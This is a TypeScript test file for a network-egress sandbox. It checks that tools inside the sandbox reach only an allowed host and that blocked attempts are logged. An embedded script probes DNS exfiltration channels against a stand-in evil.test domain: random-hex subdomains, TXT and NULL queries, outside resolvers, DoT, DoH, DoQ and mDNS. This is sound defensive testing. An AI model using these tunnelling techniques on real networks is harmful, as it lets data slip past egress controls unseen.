// A sandbox whose command knows nothing of a proxy: DNS leads it to the proxy's address, the server name says where to, and no question
// and no packet of any kind gets outside.
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { run } from '../helpers/netns.ts';
import { findProgram, needs } from '../helpers/needs.ts';
import { makeWorld, type World } from './world.ts';

const wanted = [
  'root',
  'netns',
  'nft',
  'ip',
  'curl',
  'git',
  'nc',
  'openssl',
  'tcpdump',
  'setpriv',
  'unshare',
  'nsenter',
];

// A slow machine is no failure.
t.setTimeout(300_000);

/** The names of a policy that also allows a second port. */
const policy = {
  version: 1,
  allow: [
    { id: 'allow/good.test', host: 'good.test', ports: [443, 8443], reason: 'the origin of the test' },
    { id: 'allow/nowhere.test', host: 'nowhere.test', reason: 'a name that the hosts file does not have' },
  ],
};

/** Ends with its stdin. Serves the files of a directory over TLS, as git's dumb protocol wants them. */
const filesCode = `
process.stdin.resume().on('close', () => process.exit())
const fs = require('node:fs'), path = require('node:path'), [, cert, key, root] = process.argv
const server = require('node:https').createServer({ cert: fs.readFileSync(cert), key: fs.readFileSync(key) }, (ask, answer) => {
  const file = path.join(root, path.normalize(new URL(ask.url, 'https://x').pathname))
  fs.readFile(file, (error, bytes) => { answer.statusCode = error ? 404 : 200; answer.end(bytes) })
})
server.listen(8443, '0.0.0.0', () => console.log('listening'))
`;

async function startRepository(world: World): Promise<void> {
  const [work, served] = [join(world.dir, 'work'), join(world.dir, 'served')];
  mkdirSync(served);
  const commit = [
    'set -e',
    'git init -q "$1"; cd "$1"; echo cloned >file; git add file',
    'git -c user.name=t -c user.email=t@good.test commit -qm one; git clone -q --bare "$1" "$2/r.git"; cd "$2/r.git"; git update-server-info',
  ];
  const made = await run(['sh', '-c', commit.join('\n'), 'sh', work, served], {
    env: { PATH: process.env['PATH'], HOME: world.dir },
  });
  if (made.code !== 0) throw new Error(made.stderr);
  const files = [join(world.workspace, 'ca.pem'), join(world.dir, 'key.pem'), served];
  const server = world.outside.start([process.execPath, '-e', filesCode, ...files]);
  await server.line((line) => line === 'listening');
}

/**
 * Asks in every way there is, from inside. Each line it prints is one way and what came of it: a code of DNS, an error of the system, or
 * `silence`.
 */
const askingCode = `
const dgram = require('node:dgram'), net = require('node:net'), tls = require('node:tls'), [, , proxy, outside] = process.argv
const secret = Array.from({ length: 4 }, () => require('node:crypto').randomBytes(24).toString('hex')).join('.') + '.evil.test'
const query = (name, type) => Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').map(label => Buffer.from([label.length, ...Buffer.from(label)])), Buffer.from([0, type >> 8, type & 255, 0, 1])])
const within = work => Promise.race([work, new Promise(done => setTimeout(done, 700, 'silence'))])
const udp = (address, port, bytes) => within(new Promise(done => {
  const socket = dgram.createSocket('udp4')
  socket.on('error', error => done(error.code)).on('message', answer => done('code ' + (answer[3] & 15) + ', answers ' + answer[7]))
  socket.send(bytes, port, address, error => error && done(error.code))
}))
const tcp = (address, port, bytes) => within(new Promise(done => {
  const socket = net.connect(port, address, () => socket.write(Buffer.concat([Buffer.from([0, bytes.length]), bytes])))
  socket.on('error', error => done(error.code)).on('data', answer => done('code ' + (answer[5] & 15) + ', answers ' + answer[9]))
}))
const secure = (address, port, servername) => within(new Promise(done => {
  const socket = tls.connect({ host: address, port, servername, rejectUnauthorized: false }, () => done('CONNECTED'))
  socket.on('error', error => done(error.code))
}))
;(async () => {
  for (const [what, work] of Object.entries({
    'a long name': () => udp(proxy, 53, query(secret, 1)),
    'a long name over TCP': () => tcp(proxy, 53, query(secret, 1)),
    'its text': () => udp(proxy, 53, query(secret, 16)),
    'its NULL record': () => udp(proxy, 53, query(secret, 10)),
    'ANY': () => udp(proxy, 53, query('nowhere.test', 255)),
    'an allowed name that nobody has looked up': () => udp(proxy, 53, query('nowhere.test', 1)),
    'its text, too': () => udp(proxy, 53, query('nowhere.test', 16)),
    'the resolver of a container engine': () => udp('127.0.0.11', 53, query(secret, 1)),
    'DNS elsewhere': () => udp(outside, 53, query(secret, 1)),
    'DNS elsewhere over TCP': () => tcp(outside, 53, query(secret, 1)),
    'DoT': () => secure(proxy, 853, 'dns.evil.test'),
    'DoT elsewhere': () => secure(outside, 853, 'dns.evil.test'),
    'DoQ': () => udp(proxy, 853, query(secret, 1)),
    'mDNS': () => udp('224.0.0.251', 5353, query('x.local', 1)),
    'DoH': () => secure(proxy, 443, 'dns.evil.test'),
    'DoH elsewhere': () => secure(outside, 443, 'dns.evil.test'),
  })) console.log(what + ': ' + await work())
  console.log('asked')
})()
setInterval(() => {}, 1000)
`;

t.test('without a proxy variable', { skip: needs(t, wanted) }, async (t) => {
  const world = await makeWorld(t);
  const file = join(world.dir, 'steer.json');
  writeFileSync(file, JSON.stringify(policy));
  copyFileSync(process.execPath, join(world.workspace, 'node'));
  const trusting = ['CURL_CA_BUNDLE', 'GIT_SSL_CAINFO', 'NODE_EXTRA_CA_CERTS', 'SSL_CERT_FILE'].flatMap(
    (name) => ['--env', `${name}=/workspace/ca.pem`],
  );
  const bare = ['--policy', file, '--workspace', world.workspace, ...trusting, '--wiring', 'transparent'];
  const ask = async (name: string, lines: readonly string[], options: readonly string[] = []) => {
    // tap puts its own NODE_OPTIONS into whatever a process of Node's starts.
    const words = [...bare, ...options, '--name', world.name(name)];
    const { stdout, stderr, report } = await world.sallyport(words, [
      'sh',
      '-c',
      ['unset NODE_OPTIONS', ...lines].join('\n'),
    ]);
    const audit = readFileSync(report.audit, 'utf8').trim().split('\n').map(readLine);
    return { stdout, stderr, report, audit };
  };

  t.test(
    'curl and git reach an allowed host, and are refused on another with the reason on record',
    async (t) => {
      await startRepository(world);
      const { stdout, stderr, report, audit } = await ask('tools', [
        'env | grep -icE "^[a-z]+_proxy="; cat /etc/resolv.conf',
        'curl -sS https://good.test && echo " by name"',
        'curl -sS https://bad.test; echo "denied $?"',
        'A=$(getent hosts good.test | cut -d" " -f1); curl -sS --resolve bad.test:443:$A https://bad.test; echo "by address $?"',
        'curl -sS --max-time 5 https://$A; echo "no name $?"',
        'curl -sS -o /dev/null -w "plain %{http_code}\\n" http://good.test',
        'git clone -q https://good.test:8443/r.git && cat r/file',
        'git clone -q https://bad.test/r.git no; echo "git $?"',
      ]);
      t.match(stdout, /^0\nnameserver 10\.219\.\d+\.\d+\n/);
      t.match(stdout, /\norigin by name\ndenied 6\nby address 35\nno name 35\nplain 403\ncloned\ngit 128\n$/);
      t.match(stderr, /alert access denied/);
      const told = audit.map(({ event, mode = '', host, reason }) => `${event} ${mode} ${host} ${reason}`);
      const expected = [
        'decision transparent good.test rule_matched',
        'name  bad.test no_rule_matched',
        'decision transparent bad.test no_rule_matched',
        'decision transparent  server_name_missing',
      ];
      t.same(
        expected.filter((line) => !told.includes(line)),
        [],
        told.join('\n'),
      );
      t.ok(
        report.denied.most.some(({ host, reason }) => host === 'bad.test' && reason === 'no_rule_matched'),
      );
    },
  );

  t.test('no question of any kind leaves, and each is counted where it ended', async (t) => {
    writeFileSync(join(world.workspace, 'ask.cjs'), askingCode);
    const script = [
      'unset NODE_OPTIONS',
      'read -r _ A </etc/resolv.conf',
      `exec /workspace/node /workspace/ask.cjs $A ${world.address}`,
    ];
    const capture = await world.capture();
    const named = world.name('asking');
    const run = world.start(
      [...bare, '--name', named, '--metrics', '10.98.0.1:9191'],
      ['sh', '-c', script.join('; ')],
    );
    await run.line('asked');
    const metrics = await world.host.must(['curl', '-sS', '--noproxy', '*', 'http://10.98.0.1:9191/metrics']);
    const drops = await world.drops(named);
    run.child.kill('SIGTERM');
    await run.ended;
    const said = new Map(
      run.lines
        .filter((line) => /^[\w ,]+: /.test(line))
        .map((line) => line.split(': ', 2) as [string, string]),
    );
    const told = (what: string): string => said.get(what) ?? 'nothing';
    for (const what of ['a long name', 'a long name over TCP', 'its text', 'its NULL record'])
      t.equal(told(what), 'code 3, answers 0', what);
    t.equal(told('ANY'), 'code 5, answers 0');
    t.equal(told('an allowed name that nobody has looked up'), 'code 0, answers 1');
    t.equal(told('its text, too'), 'code 0, answers 0');
    t.notMatch(told('the resolver of a container engine'), /code|nothing/);
    for (const what of ['DoT', 'DoQ']) t.equal(told(what), 'silence', what);
    for (const what of ['DNS elsewhere', 'DNS elsewhere over TCP', 'DoT elsewhere', 'mDNS', 'DoH elsewhere'])
      t.equal(told(what), 'ENETUNREACH', what);
    t.match(told('DoH'), /ALERT/);
    t.match(metrics, /sallyport_dns_answers_total\{answer="nxdomain"\} 4\n/);
    t.match(metrics, /sallyport_dns_answers_total\{answer="refused"\} 1\n/);
    t.match(metrics, /sallyport_dns_answers_total\{answer="address"\} 1\n/);
    t.match(metrics, /decisions_total\{verdict="deny",reason="no_rule_matched",mode="transparent"\} 1\n/);
    t.ok((drops.get('dns') ?? 0) >= 2, 'the fence counted DoT and DoQ');
    t.match(run.lines.at(-1), /denied \d+: .*evil\.test no_rule_matched/);
    // The control: a question of the host itself is seen.
    await world.host.run(['sh', '-c', `echo | nc -u -w1 ${world.address} 53`]);
    const packets = await capture.stop();
    t.ok(packets.length > 0 && packets.every((line) => line.includes(' 10.98.0.1.')), packets.join('\n'));
  });

  const fetches = (host: string): string =>
    `fetch('https://${host}/').then(r=>r.text()).then(console.log,e=>console.log('failed',e.cause?.code))`;
  const urlopen = (host: string): string =>
    `import urllib.request as u\\ntry: print(u.urlopen("https://${host}/").read().decode())\\nexcept Exception as e: print("failed", type(e).__name__)`;
  const runtimes: readonly (readonly [
    what: string,
    program: string,
    (host: string) => string,
    allowed: RegExp,
    denied: RegExp,
  ])[] = [
    [
      'node of this checkout',
      '/workspace/node',
      (host) => `/workspace/node -e "${fetches(host)}"`,
      /^origin\n/,
      /failed ENOTFOUND\n$/,
    ],
    [
      'node of the system',
      'node',
      (host) => `node -e "${fetches(host)}"`,
      /^origin\n/,
      /failed ENOTFOUND\n$/,
    ],
    [
      'Python',
      'python3',
      (host) => `printf '${urlopen(host)}' | /usr/bin/python3 -`,
      /^origin\n/,
      /failed URLError\n$/,
    ],
  ];
  for (const [i, [what, program, script, allowed, denied]] of runtimes.entries()) {
    const isThere = program.startsWith('/') || findProgram(program) !== undefined;
    t.test(
      `${what} reaches an allowed host, and not another`,
      { skip: !isThere && `no ${program}` },
      async (t) => {
        const { stdout, stderr } = await ask(`runtime${i}`, [script('good.test'), script('bad.test')]);
        t.match(stdout, allowed, stderr);
        t.match(stdout, denied);
      },
    );
  }
});

interface Line {
  readonly event: string;
  readonly mode?: string;
  readonly host: string;
  readonly reason: string | null;
}

function readLine(line: string): Line {
  return JSON.parse(line) as Line;
}
